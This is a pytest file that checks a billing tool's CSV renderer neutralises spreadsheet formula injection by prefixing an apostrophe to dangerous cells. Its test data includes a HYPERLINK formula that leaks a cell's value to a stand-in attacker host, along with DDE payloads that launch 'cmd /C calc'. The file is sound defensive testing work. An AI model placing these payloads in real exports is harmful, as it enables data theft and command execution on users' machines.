"""CSV injection (OWASP): a cell a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io

import pytest

from billsync.sync.ops.render import csv_cell, csv_text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
            '\'=HYPERLINK("http://evil.example/?leak="&A1,"x")',
        ),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.50", "-12.50"),  # a credit balance stays a number
        ("+3", "+3"),
        ("Acme = Co", "Acme = Co"),
        ("", ""),
        (None, ""),
    ],
)
def test_cells(value: str | None, written: str) -> None:
    assert csv_cell(value) == written


def test_every_cell_of_a_document_including_the_header() -> None:
    text = csv_text(["=name"], [["=1+1", "-5.00"], [None, "@x"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["'=name"], ["'=1+1", "-5.00"], ["", "'@x"]]
